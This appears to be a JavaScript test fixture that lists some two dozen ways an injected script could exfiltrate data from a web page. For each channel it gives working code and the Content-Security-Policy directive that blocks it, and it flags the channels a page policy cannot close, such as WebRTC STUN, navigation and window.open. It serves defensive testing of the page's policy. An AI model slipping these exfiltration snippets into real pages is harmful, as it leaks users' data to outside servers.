// The channels by which a script injected into the page could exfiltrate an answer, with the directive that closes each.
// `attempt` runs in the page with the address of a listening server (`elsewhere`), the page's own folder (`own`), a UDP
// port (`udp`) and the answer. `closedBy` is the directive of the page's policy (index.html), or null if no policy of a page
// can close the channel; `embedded` is the effect of the host's exact frame-src. channels.spec.mjs tests every row in
// Chromium; `node tests/browser/channels.mjs` prints the table.

import { fileURLToPath } from "node:url";

const HOST = "host: `frame-src` with the exact address";
const SERVER = "server: reads no query, logs none";

export const channels = [
  { name: "`fetch` to another site", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => fetch(`${elsewhere}?${answer}`, { mode: "no-cors" }) },
  { name: "`XMLHttpRequest` to another site", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => {
    const request = new XMLHttpRequest();
    request.open("POST", elsewhere);
    request.send(answer);
  } },
  { name: "`navigator.sendBeacon`", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => navigator.sendBeacon(elsewhere, answer) },
  { name: "`WebSocket`", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => new WebSocket(`${elsewhere.replace("http", "ws")}?${answer}`) },
  { name: "`EventSource`", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => new EventSource(`${elsewhere}?${answer}`) },
  { name: "`ping` of a link", closedBy: "connect-src", attempt: ({ elsewhere, answer }) => {
    const link = document.body.appendChild(document.createElement("a"));
    Object.assign(link, { href: "#/ping", ping: `${elsewhere}?${answer}` });
    link.click();
  } },
  { name: "image from another site", closedBy: "img-src", attempt: ({ elsewhere, answer }) => (new Image().src = `${elsewhere}?${answer}`) },
  { name: "form sent to another site", closedBy: "form-action", attempt: ({ elsewhere, answer }) => {
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, { action: `${elsewhere}?${answer}`, method: "post" });
    form.submit();
  } },
  { name: "script, or dynamic `import`, from another site", closedBy: "script-src", attempt: ({ elsewhere, answer }) => import(`${elsewhere}?${answer}`) },
  { name: "worker from another site, or from a `blob:` that imports it", closedBy: "worker-src", attempt: ({ elsewhere, answer }) => {
    const source = new Blob([`importScripts("${elsewhere}?${answer}")`], { type: "text/javascript" });
    new Worker(URL.createObjectURL(source));
  } },
  { name: "style sheet from another site", closedBy: "style-src", attempt: ({ elsewhere, answer }) =>
    Object.assign(document.head.appendChild(document.createElement("link")), { rel: "stylesheet", href: `${elsewhere}?${answer}` }) },
  { name: "`@import` or `url()` in an inline style", closedBy: "style-src", attempt: ({ elsewhere, answer }) =>
    (document.head.appendChild(document.createElement("style")).textContent = `@import "${elsewhere}?${answer}"; body { background: url("${elsewhere}?${answer}") }`) },
  { name: "font from another site", closedBy: "font-src (default-src)", attempt: ({ elsewhere, answer }) => new FontFace("out", `url("${elsewhere}?${answer}")`).load() },
  { name: "video or sound from another site", closedBy: "media-src (default-src)", attempt: ({ elsewhere, answer }) => {
    const video = document.body.appendChild(document.createElement("video"));
    video.src = `${elsewhere}?${answer}`;
    video.load();
  } },
  { name: "`iframe` of another site", closedBy: "frame-src (default-src)", attempt: ({ elsewhere, answer }) =>
    (document.body.appendChild(document.createElement("iframe")).src = `${elsewhere}?${answer}`) },
  { name: "`object` or `embed`", closedBy: "object-src (default-src)", attempt: ({ elsewhere, answer }) =>
    (document.body.appendChild(document.createElement("object")).data = `${elsewhere}?${answer}`) },
  { name: "`prefetch` of another site", closedBy: "default-src", attempt: ({ elsewhere, answer }) =>
    Object.assign(document.head.appendChild(document.createElement("link")), { rel: "prefetch", href: `${elsewhere}?${answer}` }) },
  { name: "WebRTC (STUN over UDP)", closedBy: null, remedy: "none in a page: browsers know no directive for it", attempt: async ({ udp, answer }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}`, username: answer, credential: answer }] });
    peer.createDataChannel("out");
    await peer.setLocalDescription(await peer.createOffer());
  } },
  { name: "`location =` another site, a link clicked, `meta refresh`", closedBy: null, remedy: HOST, embedded: "closed", attempt: ({ elsewhere, answer }) => (location.href = `${elsewhere}?${answer}`) },
  { name: "`window.open`", closedBy: null, remedy: "host: a `sandbox` without `allow-popups`", embedded: "closed", attempt: ({ elsewhere, answer }) => window.open(`${elsewhere}?${answer}`) },
  { name: "`fetch` of the site's own files with a query", closedBy: null, remedy: SERVER, attempt: ({ own, answer }) => fetch(`${own}catalogue.json?${answer}`) },
  { name: "`prefetch` of the site's own files with a query", closedBy: null, remedy: SERVER, attempt: ({ own, answer }) =>
    Object.assign(document.head.appendChild(document.createElement("link")), { rel: "prefetch", href: `${own}guide.html?${answer}` }) },
];

/** Returns the table of SECURITY.md. */
export function table() {
  const row = ({ name, closedBy, remedy }) => `| ${name} | ${closedBy ? "closed" : "**open**"} | ${closedBy ? `page: \`${closedBy}\`` : remedy} |`;
  return ["| way out | in the page alone | closed by, or what remains to be done |", "| --- | --- | --- |", ...channels.map(row)].join("\n");
}

if (process.argv[1] === fileURLToPath(import.meta.url)) console.log(table());
